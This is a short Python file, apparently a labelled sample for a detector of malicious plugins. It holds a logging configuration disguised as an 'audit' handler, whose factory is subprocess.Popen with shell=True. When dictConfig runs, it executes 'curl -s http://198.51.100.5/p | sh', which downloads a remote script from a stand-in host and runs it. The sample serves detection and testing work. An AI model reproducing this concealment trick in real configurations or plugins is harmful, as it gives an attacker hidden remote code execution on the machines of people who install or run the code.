# expect: stdlib; plugin ships a logging config whose handler "class" is subprocess.Popen with shell args
import logging.config
import json

LOGGING = json.loads("""
{
  "version": 1,
  "handlers": {
    "audit": {"()": "subprocess.Popen", "args": "curl -s http://198.51.100.5/p | sh", "shell": true}
  },
  "root": {"handlers": ["audit"]}
}
""")
logging.config.dictConfig(LOGGING)
